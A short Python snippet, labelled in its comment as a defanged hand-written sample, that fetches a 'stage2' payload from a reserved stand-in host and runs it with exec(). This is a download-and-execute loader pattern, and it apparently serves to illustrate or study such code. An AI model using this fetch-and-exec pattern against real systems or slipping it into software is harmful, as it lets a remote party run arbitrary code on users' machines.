# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import requests

code = requests.get("https://payload.invalid/stage2", timeout=5).text
if code:
    exec(code, globals())
